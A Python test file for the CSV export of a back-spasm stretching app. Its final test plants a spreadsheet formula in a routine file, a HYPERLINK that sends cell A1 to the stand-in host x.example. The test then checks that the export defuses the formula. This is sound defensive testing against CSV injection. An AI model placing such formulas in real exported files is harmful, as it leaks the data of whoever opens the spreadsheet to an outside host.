"""--export-csv and --data-dir: the stored sessions as a CSV file."""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

from backspasm_gui.storage.history_db import HistoryDB
from tests.cli.command import cli, stored_month
from tests.simulated import month


def test_export_csv_writes_every_stored_session(tmp_path: Path) -> None:
    sessions = stored_month(tmp_path / "data")
    out = tmp_path / "sessions.csv"
    result = cli("--data-dir", str(tmp_path / "data"), "--export-csv", str(out), tmp_path=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stdout.strip() == str(out)
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == sessions
    assert {row["routine"] for row in rows} == {"Back Spasm Stretches & Exercises"}


def test_sessions_stored_before_routines_were_named_are_the_handouts(tmp_path: Path) -> None:
    store, _problem = HistoryDB.open(tmp_path / "data" / "history.sqlite3")
    store.save(replace(month()[0], id=None, routine=""))
    store.close()
    out = tmp_path / "sessions.csv"
    result = cli("--data-dir", str(tmp_path / "data"), "--export-csv", str(out), tmp_path=tmp_path)
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8-sig", newline="") as handle:
        [row] = csv.DictReader(handle)
    assert row["routine"] == "Back Spasm Stretches & Exercises"


def test_the_data_folder_can_come_from_the_environment(tmp_path: Path) -> None:
    sessions = stored_month(tmp_path / "elsewhere")
    out = tmp_path / "sessions.csv"
    env_args = {"BACKSPASM_DATA_DIR": str(tmp_path / "elsewhere")}
    result = cli("--export-csv", str(out), tmp_path=tmp_path, env=env_args)
    assert result.returncode == 0, result.stderr
    assert out.read_text(encoding="utf-8-sig").count("\n") == sessions + 1


def test_export_with_no_history_yet_says_so_and_writes_the_header(tmp_path: Path) -> None:
    out = tmp_path / "sessions.csv"
    result = cli("--data-dir", str(tmp_path / "none"), "--export-csv", str(out), tmp_path=tmp_path)
    assert result.returncode == 0
    assert "No sessions are recorded yet" in result.stderr
    assert out.read_text(encoding="utf-8-sig").startswith("id,date,")
    assert not (tmp_path / "none").exists()  # exporting creates no history


def test_export_to_an_unwritable_place_is_one_sentence(tmp_path: Path) -> None:
    stored_month(tmp_path / "data")
    blocker = tmp_path / "a-file"
    blocker.write_text("", encoding="utf-8")
    result = cli(
        "--data-dir",
        str(tmp_path / "data"),
        "--export-csv",
        str(blocker / "x.csv"),
        tmp_path=tmp_path,
    )
    assert result.returncode == 1
    assert "could not be saved" in result.stderr
    assert "Traceback" not in result.stderr


FORMULA = '=HYPERLINK("http://x.example/?"&A1,"click")'


def test_a_formula_named_in_a_routine_file_reaches_the_csv_as_text(tmp_path: Path) -> None:
    """A stranger's routine names its stretch and itself with a formula; the session the
    person did with it is exported; the clinician's spreadsheet shows the words, and
    opening the file sends nothing to x.example."""
    from backspasm_gui.core.history import HoldRecord
    from backspasm_gui.core.routine_file import load_routine
    from tests.samples import routine_text

    routine = tmp_path / "mine.toml"
    routine.write_text(
        routine_text(head=f"schema = 1\ntitle = '{FORMULA}'\n").replace(
            'name = "Knee to Chest"', f"name = '{FORMULA}'"
        ),
        encoding="utf-8",
    )
    stretch = load_routine(routine).stretches[0]
    assert stretch.name == FORMULA
    store, _problem = HistoryDB.open(tmp_path / "data" / "history.sqlite3")
    session = replace(
        month()[0],
        id=None,
        routine="",  # followed the routine given with --routine: the export names it
        holds=(HoldRecord(stretch.id, stretch.name, "left", 30, False),),
        pain_before=3,
    )
    store.save(session)
    store.close()
    out = tmp_path / "sessions.csv"
    result = cli(
        "--routine",
        str(routine),
        "--data-dir",
        str(tmp_path / "data"),
        "--export-csv",
        str(out),
        tmp_path=tmp_path,
    )
    assert result.returncode == 0, result.stderr
    with out.open(encoding="utf-8-sig", newline="") as handle:
        [row] = csv.DictReader(handle)
    assert row["skipped"] == "'" + FORMULA
    assert row["routine"] == "'" + FORMULA
    assert row["pain_before"] == "3"  # numbers stay numbers
    starts = {column: cell[:1] for column, cell in row.items()}
    assert not {c: s for c, s in starts.items() if s in ("=", "+", "-", "@", "\t", "\r")}
